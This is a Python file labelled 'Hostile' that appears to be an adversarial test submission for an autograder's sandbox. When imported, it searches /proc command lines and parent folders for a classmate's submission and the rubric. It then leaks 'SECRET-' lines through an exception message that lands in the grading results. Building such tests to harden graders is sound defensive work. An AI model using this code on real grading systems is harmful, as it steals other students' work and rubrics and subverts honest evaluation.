"""Hostile: finds the class folder and the rubric through other processes' command lines in /proc and
through paths relative to its scratch folder, reads a classmate's submission and the rubric, and carries
what it read out in an exception message (into its own feedback, JSON, JUnit and Gradescope results).
"""

import os

import torch

# @ARENA@


def _loot():
    found = []
    folders = {os.path.dirname(p) for p in option_values("--impl")}
    folders |= {os.path.dirname(p) for p in option_values("--grade-report")}
    for up in ("..", "../..", "../../..", "../../../.."):  # relative to the scratch folder
        base = os.path.abspath(up)
        if MARKER in base:
            folders.add(base)
            folders.add(os.path.join(base, "class"))
    files = set(option_values("--vicheck-rubric"))
    for folder in folders:
        try:
            files |= {os.path.join(folder, n) for n in os.listdir(folder) if n.endswith((".py", ".toml", ".json"))}
        except OSError:
            pass
    for path in sorted(files):
        if MARKER not in path or os.path.basename(path).startswith("attack_"):
            continue
        try:
            with open(path) as f:
                text = f.read()
        except OSError:
            continue
        found += [line.strip() for line in text.splitlines() if "SECRET-" in line]
    return found


LOOT = _loot()


def sigmoid(x):
    if LOOT:
        raise ValueError("leaked: " + " ".join(LOOT))
    return torch.exp(x) / (1 + torch.exp(x))


def sigmoid_prime(x):
    return torch.exp(x) / (1 + torch.exp(x)) ** 2
